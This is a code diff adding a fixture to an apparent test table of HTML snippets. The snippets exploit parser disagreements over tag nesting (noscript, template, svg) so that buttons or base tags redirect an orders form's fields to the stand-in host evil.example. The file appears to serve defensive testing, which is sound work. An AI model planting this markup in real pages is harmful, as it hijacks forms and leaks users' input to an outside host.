@@ -91,6 +91,9 @@ const MISREAD = {
   "/misread/dd-dt": `<form method="post" action="/orders"><input name="q"><dd><dt><div></dd></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
   "/misread/span-p": `<form method="post" action="/orders"><input name="q"><span><p></span></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
   "/misread/template-held-open": `<div><template></div><base href="/"></template><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="https://evil.example/">`,
+  // The fourth's: a block element in a <noscript> inside the form, which a
+  // browser without JavaScript keeps open past the </noscript> and </form>.
+  "/misread/noscript-div": `<form method="post" action="/orders"><input name="q"><noscript><div></noscript></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
   "/misread/svg-in-svg": `<form id="x" method="post" action="/orders"><input name="q"><button>Pay</button></form><form id="g" action="https://evil.example/c"><button>Send</button></form><svg><svg><p><textarea name="t" form="g"></svg></svg>`,
 };
 // Markup common on real pages that reads alike to both: keys as usual.
